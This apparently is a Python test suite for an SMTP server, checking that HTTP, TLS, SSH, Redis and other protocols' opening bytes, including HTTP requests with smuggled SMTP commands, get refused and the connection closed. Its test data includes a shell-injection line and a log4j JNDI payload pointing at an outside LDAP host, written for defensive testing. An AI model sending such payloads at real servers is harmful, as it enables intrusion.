"""Other protocols: a browser, a TLS client, SSH and junk talk to the plain port."""
from abuse.row import *

TOPIC = "another protocol's first octets end the connection at once; nothing behind them is obeyed"
RELAY = {}

INSIDE = EHLO + SMUGGLED + b"QUIT\r\n"
HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"R" * 32 + b"\x20" + b"S" * 32 + b"\x00\x02\x13\x01\x01\x00"


def other(name, octets):
    """One refusal, the end; before EHLO and behind it."""
    return [Case(name, [octets, "554 5.5.1", CLOSED], begins=GREETED),
            Case(name + ", later", [octets, "554 5.5.1", CLOSED])]


def first(name, octets):
    return Case(name, [octets, TURNED_AWAY], begins=GREETED)


CASES = [
    *[case for method in ("GET", "POST", "PUT", "CONNECT", "HEAD", "OPTIONS", "DELETE", "TRACE", "PATCH")
      for case in other(f"HTTP {method}", f"{method} / HTTP/1.1\r\nHost: 127.0.0.1:2525\r\nContent-Length: {len(INSIDE)}\r\n\r\n".encode() + INSIDE)],
    *other("HTTP/0.9", b"GET /\r\n" + INSIDE),
    *other("HTTP in small letters", b"get / http/1.1\r\n\r\n" + INSIDE),
    *other("HTTP POST without a path", b"POST\r\n\r\n" + INSIDE),
    *other("HTTP CONNECT to a receiver", b"CONNECT dest.example:25 HTTP/1.1\r\n\r\n" + INSIDE),
    *other("the preface of HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\x12\x04\0\0\0\0\0" + INSIDE),
    *other("RTSP", b"OPTIONS rtsp://127.0.0.1/ RTSP/1.0\r\nCSeq: 1\r\n\r\n" + INSIDE),
    Case("HTTP in packets of an octet", [apart(*[bytes([c]) for c in b"GET / HTTP/1.1\r\n"]), "554 5.5.1", CLOSED], begins=GREETED),
    Case("HTTP before the greeting", [b"POST / HTTP/1.1\r\n\r\n" + INSIDE, "554 5.5.1", CLOSED], begins=FROZEN),
    Case("HTTP with a transaction open", [*OPEN, b"POST / HTTP/1.1\r\n" + INSIDE, "554 5.5.1", CLOSED]),
    Case("HTTP as a message's text", [*DATA, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n.\r\n", "550 5.6.0"]),

    first("a TLS hello", HELLO),
    first("a TLS hello with an LF in it", HELLO.replace(b"RR", b"R\n", 1) + INSIDE),
    first("a TLS hello with a CRLF in it", HELLO.replace(b"RR", b"\r\n", 1) + INSIDE),
    first("a TLS hello without a NUL, with a CRLF", b"\x16\x03\x01\x02\x01\x01\x01\r\n" + INSIDE),
    first("a first octet of TLS", b"\x16"),
    first("a hello of SSL 2", b"\0\x2e\x01\0\x02\0\x15\0\0\0\x10" + b"R" * 37),
    first("a NUL", b"\0"),
    first("a NUL and a line", b"\0EHLO x\r\n" + INSIDE),
    first("a length before a message", b"\0\0\0\x50\xffSMB@\0\0\0"),
    first("a DNS query", b"\0\x1d\x12\x34\1\0\0\1\0\0\0\0\0\0\7example\3com\0\0\1\0\1"),
    first("the startup of PostgreSQL", b"\0\0\0\x08\x04\xd2\x16\x2f"),
    Case("a TLS hello before the greeting", [HELLO, "554 5.5.1", CLOSED], begins=FROZEN),
    first("junk with line ends", bytes(range(255, 0, -1)) * 8 + b"\r\n" + INSIDE),
    first("64 KiB of junk", bytes(range(1, 256)) * 257 + b"\r\n" + INSIDE),

    *cases(lambda octets, *replies: [octets, *replies], [
        ("SSH", b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n", "500 5.5.2"),
        ("SIP", b"REGISTER sip:127.0.0.1 SIP/2.0\r\n", "500 5.5.2"),
        ("Redis", b"*1\r\n$4\r\nPING\r\n", *["500 5.5.2"] * 3),
        ("POP3", b"USER billing\r\nPASS x\r\n", *["500 5.5.2"] * 2),
        ("IMAP", b"a1 LOGIN billing x\r\n", "500 5.5.2"),
        ("FTP", b"USER anonymous\r\nPORT 127,0,0,1,9,221\r\n", *["500 5.5.2"] * 2),
        ("IRC", b"NICK x\r\nUSER x 0 * :x\r\n", *["500 5.5.2"] * 2),
        ("LMTP", b"LHLO client.example.com\r\n", "500 5.5.2"),
        ("a shell", b"; id > /tmp/x; #\r\n", "500 5.5.2"),
        ("log4j", b"${jndi:ldap://192.0.2.1/x}\r\n", "500 5.5.2"),
    ], begins=GREETED),
    Case("a browser's header without its first line", [b"Host: 127.0.0.1:2525\r\nUser-Agent: x\r\nAccept: */*\r\n\r\n", *["500 5.5.2"] * 4]),
    Case("junk, line by line, ends", [b"\x01\x02\xfe\xff\r\n" * 20, *["500 5.5.2"] * 10, "421 4.7.0", CLOSED]),
]
